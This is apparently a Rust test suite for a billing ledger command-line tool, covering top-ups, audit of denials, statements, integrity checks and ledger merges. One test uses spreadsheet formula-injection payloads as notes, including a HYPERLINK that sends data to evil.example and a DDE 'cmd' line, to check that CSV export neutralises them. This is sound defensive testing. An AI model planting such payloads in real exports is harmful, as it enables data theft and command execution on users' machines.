//! Transcripts of the ledger commands run as the real binary: admin-topup, balance, statement, integrity-validate, ledger merge.
// Tests fail by panicking; unwrap() and expect() are how they say so.
#![allow(clippy::unwrap_used, clippy::expect_used)]
use crate::support::check::assert_has;
use crate::support::ledger_fixtures as fixtures;

use crate::support::fx::{Topup, LEDGER_FILES};
use crate::support::{Fx, Transcript};
use fixtures::*;
use platform::ledger::{Ledger, Stream};
use platform::records::billing::RUN_DELIVERABLE;
use platform::records::Payload;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// Tenants acme and beta; ops and ops2 may top up, intern may only publish. Commands name
/// the billing-state directory `state/` explicitly.
struct Repo {
    fx: Fx,
    root: PathBuf,
    state: PathBuf,
}

fn repo() -> Repo {
    let fx = Fx::empty();
    for t in ["acme", "beta"] {
        fx.write(
            &format!("tenants/{t}/tenant.yml"),
            format!("tenant_id: {t}\n"),
        );
    }
    fx.write(
        "config/iam.yml",
        "roles:\n  admin: [billing.topup]\n  publisher: [artifacts.publish]\nactors:\n  - id: ops\n    roles: [admin]\n  - id: ops2\n    roles: [admin]\n  - id: intern\n    roles: [publisher]\n",
    );
    let (root, state) = (fx.root().to_path_buf(), fx.path("state"));
    Repo { fx, root, state }
}

/// `platform <args> --billing-state-dir <state dir>`.
fn on(r: &Repo, state: &Path, args: &[&str]) -> Output {
    r.fx.command()
        .args(args)
        .arg("--billing-state-dir")
        .arg(state)
        .output()
        .unwrap()
}

/// `platform <args>` on the repository's state directory.
fn run(r: &Repo, args: &[&str]) -> Output {
    on(r, &r.state, args)
}

/// A top-up of acme by ops, method bank.
fn bank<'a>(amount: &'a str, reference: &'a str) -> Topup<'a> {
    Topup {
        method: "bank",
        ..Topup::new("acme", amount, reference).by("ops")
    }
}

/// `admin-topup` into the repository's state directory.
fn topup_in(r: &Repo, topup: &Topup) -> Command {
    let mut c = r.fx.command();
    c.args(topup.args())
        .arg("--billing-state-dir")
        .arg(&r.state);
    c
}

fn topup_cmd(r: &Repo, amount: &str, reference: &str) -> Command {
    topup_in(r, &bank(amount, reference))
}

fn topup_as(r: &Repo, actor: &str, amount: &str, reference: &str) -> Command {
    topup_in(r, &bank(amount, reference).by(actor))
}

/// Run a command to its output.
fn out(mut c: Command) -> Output {
    c.output().unwrap()
}

fn billing(r: &Repo) -> Vec<u8> {
    read(&r.state.join("billing.jsonl"))
}

fn balance_json(r: &Repo, state: &Path) -> Value {
    on(r, state, &["balance", "--tenant-id", "acme", "--json"])
        .expect_ok()
        .json()
}

#[test]
fn topup_replay_and_conflict() {
    let r = repo();
    let mut first = topup_cmd(&r, "100", "INV-1");
    first.arg("--json");
    let v = out(first).expect_ok().json();
    assert_eq!(v["status"], "appended");
    assert_eq!(v["balance_credits"], 100);
    assert_eq!(v["idempotency_key"], "topup/acme/INV-1");
    let before = billing(&r);
    let audit_before = read(&r.state.join("audit.jsonl"));
    assert_eq!(lines(&r.state.join("audit.jsonl")).len(), 1);

    // The same reference and amount again: one top-up.
    let text = out(topup_cmd(&r, "100", "INV-1")).expect_ok().stdout_text();
    assert_has(&text, "already recorded");
    assert_eq!(billing(&r), before);
    assert_eq!(read(&r.state.join("audit.jsonl")), audit_before);

    // Another actor replaying it is still the same top-up.
    let mut again = topup_as(&r, "ops2", "100", "INV-1");
    again.args(["--note", "re-entered"]);
    out(again).expect_ok();
    assert_eq!(billing(&r), before);

    // A different amount for the reference: conflict, nothing written.
    let err = out(topup_cmd(&r, "200", "INV-1"))
        .expect_code(1)
        .stderr_text();
    assert!(
        err.contains("conflict") && err.contains("amount_credits"),
        "{err}"
    );
    assert_eq!(billing(&r), before);

    assert_eq!(
        balance_json(&r, &r.state),
        serde_json::json!({"tenant_id": "acme", "balance_credits": 100, "schema_version": 1})
    );
}

#[test]
fn topup_actor_comes_from_github_actor() {
    let r = repo();
    let by_env = |reference| Topup {
        method: "card",
        actor: None,
        ..bank("5", reference)
    };
    let mut c = topup_in(&r, &by_env("R"));
    c.env("GITHUB_ACTOR", "ops");
    out(c).expect_ok();
    let err = out(topup_in(&r, &by_env("R2")))
        .expect_code(2)
        .stderr_text();
    assert_has(&err, "actor");
}

#[test]
fn a_denial_is_audited_and_exits_3() {
    let r = repo();
    for _ in 0..2 {
        let err = out(topup_as(&r, "intern", "100", "INV-1"))
            .expect_code(3)
            .stderr_text();
        assert!(
            err.contains("intern") && err.contains("billing.topup"),
            "{err}"
        );
    }
    assert!(billing(&r).is_empty(), "nothing billed");
    let audit = lines(&r.state.join("audit.jsonl"));
    assert_eq!(audit.len(), 2, "each denial is its own event");
    let first: Value = serde_json::from_slice(&audit[0]).unwrap();
    assert_eq!(first["decision"], "denied");
    assert_eq!(first["actor"], "intern");
    assert_eq!(first["target"], "topup/acme/INV-1");
    assert!(first["idempotency_key"]
        .as_str()
        .unwrap()
        .starts_with("audit/denied/billing.topup/"));
    run(&r, &["integrity-validate"]).expect_ok();
}

/// Until 2026-12-03 an amount too long for any integer read "is not a whole number of
/// credits"; it is named out of range, like one just above 10^12.
#[test]
fn an_amount_too_long_for_any_integer_is_out_of_range() {
    let r = repo();
    let huge = "99999999999999999999999";
    let err = out(topup_cmd(&r, huge, "INV-9"))
        .expect_code(2)
        .stderr_text();
    assert!(
        err.contains(&format!(
            "'{huge}' is out of range: a top-up adds 1 to 10^12 credits"
        )),
        "{err}"
    );
    for amount in [huge, "-99999999999999999999999"] {
        let err = run(
            &r,
            &[
                "admin-adjust",
                "--tenant-id",
                "acme",
                "--amount-credits",
                amount,
                "--reason-slug",
                "goodwill",
                "--reference",
                "ADJ-9",
                "--actor",
                "ops",
            ],
        )
        .expect_code(2)
        .stderr_text();
        assert!(
            err.contains("is out of range: an adjustment is -10^12 to 10^12 credits"),
            "{err}"
        );
    }
    let err = out(topup_cmd(&r, "12x", "INV-9"))
        .expect_code(2)
        .stderr_text();
    assert!(err.contains("is not a whole number of credits"), "{err}");
    assert!(billing(&r).is_empty());
}

#[test]
fn topup_input_errors_name_the_flag() {
    let r = repo();
    let cases: [(&str, &str, &str); 4] = [
        ("nobody", "bank", "--tenant-id"),
        ("acme", "crypto", "--topup-method-id"),
        ("acme", "bank", "--amount-credits"),
        ("../x", "bank", "--tenant-id"),
    ];
    for (tenant, method, flag) in cases {
        let amount = if flag == "--amount-credits" {
            "0"
        } else {
            "10"
        };
        let topup = Topup {
            tenant,
            method,
            ..bank(amount, "INV-9")
        };
        let err = out(topup_in(&r, &topup)).expect_code(2).stderr_text();
        assert!(err.contains(flag), "{topup:?}: {err}");
    }
    assert!(billing(&r).is_empty());
}

#[test]
fn statement_lists_every_record_with_the_running_balance() {
    let r = repo();
    out(topup_cmd(&r, "50", "INV-1")).expect_ok();
    {
        let (mut l, _) = Ledger::open(&r.state).unwrap();
        start_runs(&mut l, &[("acme", "wo-1")]);
        let run = spend("acme", "wo-1", "s1", RUN_DELIVERABLE, 3);
        let zip = spend("acme", "wo-1", "s1", "zip", 4);
        l.append_batch(
            Stream::Billing,
            &run.batch_id(),
            vec![Payload::new(run.clone()), Payload::new(zip.clone())],
        )
        .unwrap();
        l.append(Stream::Billing, vec![refund(&zip)]).unwrap();
        l.append(Stream::Billing, vec![topup("beta", 9, "B-1")])
            .unwrap();
    }
    let statement = |extra: &[&str]| {
        run(
            &r,
            &[&["statement", "--tenant-id", "acme"][..], extra].concat(),
        )
    };
    let v = statement(&["--json"]).expect_ok().json();
    let recs = v["records"].as_array().unwrap();
    let types: Vec<&str> = recs.iter().map(|r| r["type"].as_str().unwrap()).collect();
    assert_eq!(types, ["TOPUP", "SPEND", "SPEND", "REFUND"]);
    let after: Vec<i64> = recs
        .iter()
        .map(|r| r["balance_after"].as_i64().unwrap())
        .collect();
    assert_eq!(after, [50, 47, 43, 47]);
    assert_eq!(recs[3]["reason_slug"], "module_failed");
    assert_eq!(recs[0]["reference"], "INV-1");
    assert_eq!(recs[2]["deliverable_id"], "zip");
    assert_eq!(v["balance_credits"], 47);

    let csv = statement(&["--csv"]).expect_ok().stdout_text();
    let mut rows = csv.lines();
    assert_eq!(
        rows.next().unwrap(),
        "seq,recorded_at,type,amount_credits,balance_after,work_order_id,step_id,deliverable_id,reason_slug,reference,idempotency_key,note,usage_unit,quantity,run,run_id,attempt"
    );
    assert_eq!(rows.count(), 4);

    let v = statement(&["--since", "2999-01-01T00:00:00Z", "--json"])
        .expect_ok()
        .json();
    assert_eq!(v["records"].as_array().unwrap().len(), 0);
    assert_eq!(v["opening_balance_credits"], 47);

    statement(&["--since", "yesterday"]).expect_code(2);
}

#[test]
fn integrity_validate_reports_file_and_line() {
    let r = repo();
    for i in 0..3 {
        out(topup_cmd(&r, "10", &format!("INV-{i}"))).expect_ok();
    }
    let v = run(&r, &["integrity-validate", "--json"])
        .expect_ok()
        .json();
    assert_eq!(v["ok"], true);
    assert_eq!(v["files"]["billing.jsonl"]["records"], 3);
    assert_eq!(v["files"]["audit.jsonl"]["records"], 3);
    assert_eq!(v["problems"], serde_json::json!([]));

    let file = r.state.join("billing.jsonl");
    let text = String::from_utf8(read(&file)).unwrap();
    std::fs::write(
        &file,
        text.replacen("\"amount_credits\":10", "\"amount_credits\":99", 2),
    )
    .unwrap();
    let stdout = run(&r, &["integrity-validate"])
        .expect_code(1)
        .stdout_text();
    assert_has(&stdout, "billing.jsonl:1: hash mismatch");
    assert_has(&stdout, "billing.jsonl:2: hash mismatch");
    let v = run(&r, &["integrity-validate", "--json"])
        .expect_code(1)
        .json();
    assert_eq!(v["ok"], false);
    assert_eq!(v["problems"][0]["line"], 1);
    assert!(v["problems"][0]["file"]
        .as_str()
        .unwrap()
        .ends_with("billing.jsonl"));

    // Writers refuse a damaged ledger.
    let err = out(topup_cmd(&r, "10", "INV-9"))
        .expect_code(1)
        .stderr_text();
    assert_has(&err, "damaged at line 1");

    on(&r, Path::new("/nonexistent/state"), &["integrity-validate"]).expect_code(2);
}

#[test]
fn integrity_validate_checks_runtime_record_files() {
    let r = repo();
    out(topup_cmd(&r, "10", "INV-1")).expect_ok();
    let step = r.root.join("runtime/runs/acme/wo/run-1/s1");
    std::fs::create_dir_all(step.join("outputs")).unwrap();
    std::fs::write(step.join("step.json"), "{\"ok\": true}").unwrap();
    std::fs::write(step.join("outputs/data.json"), "not json, and that is fine").unwrap();
    // What a kill between creating and writing a step's inputs.json or supervisor.json
    // leaves (no module read them; the next attempt replaces them).
    std::fs::write(step.join("inputs.json"), "").unwrap();
    std::fs::write(step.join("supervisor.json"), "").unwrap();
    run(&r, &["integrity-validate"]).expect_ok();
    // Anything else that does not parse is a problem, those two files included.
    std::fs::write(step.join("inputs.json"), "{\"text\": ").unwrap();
    let stdout = run(&r, &["integrity-validate"])
        .expect_code(1)
        .stdout_text();
    assert_has(&stdout, "inputs.json:1: not valid JSON");
    std::fs::write(step.join("inputs.json"), "{}").unwrap();
    std::fs::write(step.join("records.jsonl"), "{\"a\":1}\n{oops\n").unwrap();
    let stdout = run(&r, &["integrity-validate"])
        .expect_code(1)
        .stdout_text();
    assert_has(&stdout, "records.jsonl:2: not valid JSON");
}

fn shard(r: &Repo, name: &str, base: &Path, topups: &[(&str, i64, &str)]) -> PathBuf {
    let dir = r.root.join("shards").join(name);
    copy_state(base, &dir);
    let (mut l, _) = Ledger::open(&dir).unwrap();
    for (t, a, reference) in topups {
        l.append(Stream::Billing, vec![topup(t, *a, reference)])
            .unwrap();
    }
    l.append(Stream::Audit, vec![audit_allowed(&format!("shard/{name}"))])
        .unwrap();
    dir
}

fn merge(r: &Repo, into: &Path, segments: &[&Path]) -> Output {
    let mut c = r.fx.command();
    c.args(["ledger", "merge", "--json", "--into"]).arg(into);
    c.args(segments);
    out(c)
}

#[test]
fn merge_appends_new_records_and_is_deterministic() {
    let r = repo();
    out(topup_cmd(&r, "10", "BASE")).expect_ok();
    let a = shard(&r, "a", &r.state, &[("acme", 5, "A1"), ("acme", 6, "A2")]);
    let b = shard(&r, "b", &r.state, &[("beta", 7, "B1")]);
    let base = billing(&r);

    let into1 = r.root.join("merged1");
    let into2 = r.root.join("merged2");
    copy_state(&r.state, &into1);
    copy_state(&r.state, &into2);
    let v = merge(&r, &into1, &[&b, &a]).expect_ok().json();
    assert_eq!(v["files"]["billing.jsonl"]["added"], 3);
    assert_eq!(v["files"]["billing.jsonl"]["already_present"], 2);
    // Each shard's audit record, plus the audit record of each of its three top-ups.
    assert_eq!(v["files"]["audit.jsonl"]["added"], 5);
    merge(&r, &into2, &[&a, &b]).expect_ok();
    for f in LEDGER_FILES {
        assert_eq!(
            read(&into1.join(f)),
            read(&into2.join(f)),
            "{f}: same inputs, same bytes"
        );
    }
    let merged = read(&into1.join("billing.jsonl"));
    assert!(
        merged.starts_with(&base),
        "the target is a byte-identical prefix"
    );
    let text = String::from_utf8(merged.clone()).unwrap();
    assert!(
        text.find("acme/A2").unwrap() < text.find("beta/B1").unwrap(),
        "segments in path order"
    );
    // recorded_at is kept from the segment.
    let seg_line = lines(&a.join("billing.jsonl"))[1].clone();
    let seg: Value = serde_json::from_slice(&seg_line).unwrap();
    assert!(text.contains(seg["recorded_at"].as_str().unwrap()));
    on(&r, &into1, &["integrity-validate"]).expect_ok();

    // The same segments again, or one segment twice: nothing added.
    let v = merge(&r, &into1, &[&a, &a, &b]).expect_ok().json();
    assert_eq!(v["added"], 0);
    assert_eq!(read(&into1.join("billing.jsonl")), merged);
    assert_eq!(balance_json(&r, &into1)["balance_credits"], 21);
}

#[test]
fn a_merge_conflict_leaves_the_target_byte_identical() {
    let r = repo();
    out(topup_cmd(&r, "10", "BASE")).expect_ok();
    let a = shard(&r, "a", &r.state, &[("acme", 5, "X")]);
    let b = shard(&r, "b", &r.state, &[("acme", 6, "X")]);
    let into = r.root.join("merged");
    copy_state(&r.state, &into);
    let before = r.fx.ledger_bytes("merged");
    let err = merge(&r, &into, &[&a, &b]).expect_code(1).stderr_text();
    assert!(
        err.contains("topup/acme/X") && err.contains("amount_credits"),
        "{err}"
    );
    assert_eq!(
        before,
        r.fx.ledger_bytes("merged"),
        "nothing written, not even the audit records of segment a"
    );
    let leftovers: Vec<_> = std::fs::read_dir(&into)
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().starts_with(".merge-"))
        .collect();
    assert!(leftovers.is_empty());
}

#[test]
fn a_merge_that_would_overdraw_fails() {
    let r = repo();
    out(topup_cmd(&r, "10", "BASE")).expect_ok();
    start_runs(&mut Ledger::open(&r.state).unwrap().0, &[("acme", "wo")]);
    // The shard forked when acme had 10 and spent 5 of them...
    let a = r.root.join("shards/a");
    copy_state(&r.state, &a);
    {
        let (mut l, _) = Ledger::open(&a).unwrap();
        l.append(
            Stream::Billing,
            vec![Payload::new(spend("acme", "wo", "s1", "zip", 5))],
        )
        .unwrap();
    }
    // ...while the target spent 8 of them meanwhile.
    {
        let (mut l, _) = Ledger::open(&r.state).unwrap();
        l.append(
            Stream::Billing,
            vec![Payload::new(spend("acme", "wo", "s9", "zip", 8))],
        )
        .unwrap();
    }
    let before = billing(&r);
    let err = merge(&r, &r.state, &[&a]).expect_code(1).stderr_text();
    assert_has(&err, "not enough credits");
    assert_eq!(billing(&r), before);
}

#[test]
fn statement_csv_neutralises_formulas_in_notes_and_keeps_numbers_and_json_raw() {
    let fx = Fx::new();
    let notes = [
        ("A", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Refund\")"),
        ("B", "+1+cmd|' /C calc'!A0"),
        ("C", "@SUM(1+1)"),
        ("D", "-2+3"),
        ("E", "plain note"),
    ];
    for (reference, note) in notes {
        let mut args = Topup::new("t1", "10", reference).by("tester").args();
        args.push(format!("--note={note}"));
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        fx.run(&args).expect_ok();
    }
    // A debit: its amount is a negative number, written as one.
    let mut adjust = crate::support::fx::adjust_args("-5", "correction", "F");
    adjust.extend(["--actor", "tester", "--note=-5 for a typo"].map(String::from));
    let adjust: Vec<&str> = adjust.iter().map(String::as_str).collect();
    fx.run(&adjust).expect_ok();
    let csv = fx
        .run(&["statement", "--tenant-id", "t1", "--csv"])
        .stdout_text();
    for cell in [
        "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Refund\"\")\"",
        ",'+1+cmd|' /C calc'!A0,",
        ",'@SUM(1+1),",
        ",'-2+3,",
        ",plain note,",
        ",'-5 for a typo,",
    ] {
        assert!(csv.contains(cell), "{cell}: {csv}");
    }
    let debit = csv.lines().find(|l| l.contains(",ADJUST,")).unwrap();
    assert!(debit.contains(",ADJUST,-5,45,"), "{csv}");
    // No cell of a row starts a formula unquoted, and none but the amounts starts with '-'.
    for line in csv.lines().skip(1) {
        for (i, cell) in line.split(',').enumerate() {
            let amount = i == 3 && cell.parse::<i64>().is_ok();
            assert!(
                amount || !cell.starts_with(['=', '+', '-', '@']),
                "{cell} in {line}"
            );
        }
    }
    // --json keeps the raw text.
    let json = fx.run(&["statement", "--tenant-id", "t1", "--json"]).json();
    let raw: Vec<&str> = json["records"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| r["note"].as_str())
        .collect();
    for (_, note) in notes {
        assert!(raw.contains(&note), "{note}: {raw:?}");
    }
}

/// Until 2026-12-04 a `ledger merge` killed before its renames left its `.merge-*` temp
/// files (a whole copy of a ledger file each) in the target for good. Its next run removes
/// them under the ledger lock and says so; a link of that name is not followed.
#[test]
fn merge_removes_the_temp_files_a_killed_merge_left() {
    let r = repo();
    out(topup_cmd(&r, "10", "BASE")).expect_ok();
    let a = shard(&r, "a", &r.state, &[("acme", 5, "A1")]);
    let into = r.root.join("merged");
    copy_state(&r.state, &into);
    std::fs::write(into.join(".merge-Ab12Cd"), b"a killed merge's copy").unwrap();
    std::fs::write(into.join(".merge-Ef34Gh"), b"another").unwrap();
    let outside = r.root.join("outside.txt");
    std::fs::write(&outside, b"not the merge's").unwrap();
    std::os::unix::fs::symlink(&outside, into.join(".merge-link00")).unwrap();
    let o = merge(&r, &into, &[&a]);
    o.expect_ok();
    assert_has(
        &o.stderr_text(),
        "removed what an interrupted `platform ledger merge` left in",
    );
    assert_has(&o.stderr_text(), ".merge-Ab12Cd, .merge-Ef34Gh");
    assert_eq!(o.json()["notes"].as_array().unwrap().len(), 1);
    assert!(!into.join(".merge-Ab12Cd").exists());
    assert!(!into.join(".merge-Ef34Gh").exists());
    assert!(into.join(".merge-link00").symlink_metadata().is_ok());
    assert_eq!(std::fs::read(&outside).unwrap(), b"not the merge's");
}
